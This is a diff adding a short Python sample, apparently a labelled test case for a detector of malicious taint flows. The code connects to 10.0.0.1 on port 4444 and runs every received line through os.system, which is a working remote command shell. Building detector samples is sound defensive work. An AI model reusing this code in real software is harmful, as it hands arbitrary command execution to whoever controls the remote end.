@@ -0,0 +1,13 @@
+# async for逐行读取网络数据并作为命令执行，reader为hook对象
+# detect-expect: 'IsMalicious': True, 'Desc': 'Taint data reach threat callables'
+import asyncio, os
+
+
+async def main():
+    reader, writer = await asyncio.open_connection("10.0.0.1", 4444)
+    async with reader as r:
+        async for line in r:
+            os.system(line)
+
+
+asyncio.run(main())